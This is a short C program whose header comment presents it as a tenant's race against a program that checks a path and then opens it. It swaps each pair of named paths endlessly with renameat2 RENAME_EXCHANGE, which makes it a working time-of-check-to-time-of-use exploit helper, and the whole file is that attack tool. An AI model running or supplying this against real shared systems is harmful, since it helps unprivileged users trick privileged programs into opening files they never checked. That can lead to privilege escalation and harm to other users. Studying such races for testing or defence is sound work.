/* Exchange each pair of names given, again and again, forever: a tenant's race against a
   program that checks a path and then opens it (renameat2 RENAME_EXCHANGE). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <linux/fs.h>

int main(int argc, char **argv) {
    for (;;)
        for (int i = 1; i + 1 < argc; i += 2)
            syscall(SYS_renameat2, AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], RENAME_EXCHANGE);
}
